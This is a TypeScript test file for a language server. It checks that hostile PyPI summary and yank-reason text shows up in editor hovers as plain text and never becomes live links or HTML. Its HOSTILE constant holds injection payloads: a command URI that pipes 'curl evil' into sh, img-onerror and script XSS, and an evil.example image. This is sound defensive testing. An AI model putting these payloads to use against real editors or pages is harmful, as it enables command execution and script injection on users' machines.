/**
 * Registry text is untrusted (SPEC §6, SECURITY.md): a package index whose summary and yank reason
 * hold markdown links, `command:` URIs and raw HTML, asked through the built server, yields a hover
 * that renders (markdown-it with raw HTML on, the most permissive reader) as that text: no link to
 * a command, no HTML element, no image.
 */
import assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { join } from 'node:path';
import type { Hover, MarkupContent } from 'vscode-languageserver/node';
import { useLoopbackGuard } from '../registry/loopback-guard';
import { loadFixtureProjects, startPypiFixture, type PypiFixture } from '../registry/pypi-fixture';
import { fileUri, makeTree, removeTree, TestServer } from './harness';

const HOSTILE = '[Click to update](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D) <img src=x onerror=alert(1)> <a href="command:x">y</a> ![](https://evil.example/t.png) <script>alert(2)</script>';

describe('server: hostile registry text in hovers', function () {
  this.timeout(60_000);
  useLoopbackGuard();
  let index: PypiFixture;
  let dir: string;

  before(async () => {
    const projects = loadFixtureProjects().map((project) => (project.name === 'Acme_Widgets'
      ? { ...project, summary: HOSTILE, releases: project.releases.map((release) => (release.version === '2.0' ? { ...release, yanked: HOSTILE } : release)) }
      : project));
    index = await startPypiFixture({ projects });
    dir = makeTree();
  });
  after(async () => {
    await index?.close();
    removeTree(dir);
  });

  it('renders the summary and the yank reason as text', async () => {
    const server = await TestServer.start({ folders: [dir], settings: { offline: false, pypi: { indexUrl: index.simpleUrl } } });
    try {
      const uri = fileUri(join(dir, 'requirements.txt'));
      const refreshed = server.nextRefresh(30_000);
      await server.open(uri, 'acme-widgets==2.0\n');
      await server.pull(uri);
      await refreshed;
      await server.pull(uri);
      const hover = await server.connection.sendRequest<Hover | null>('textDocument/hover', { textDocument: { uri }, position: { line: 0, character: 3 } });
      assert.ok(hover, 'a hover');
      const contents = hover.contents as MarkupContent;
      assert.equal(contents.kind, 'markdown');
      assert.ok(contents.value.includes('Click to update'), `the summary is shown: ${contents.value}`);
      const html = new MarkdownIt({ html: true, linkify: true }).render(contents.value);
      assert.doesNotMatch(html, /href="command:|href="javascript:/i);
      assert.doesNotMatch(html, /<(img|script|a href="command)/i);
      assert.doesNotMatch(html, /<a [^>]*href="(?!https?:)/i, 'only http(s) links');
      for (const href of html.match(/href="[^"]*"/g) ?? []) assert.doesNotMatch(href, /evil|command/, `a link to ${href}`);
    } finally {
      await server.dispose();
    }
  });
});
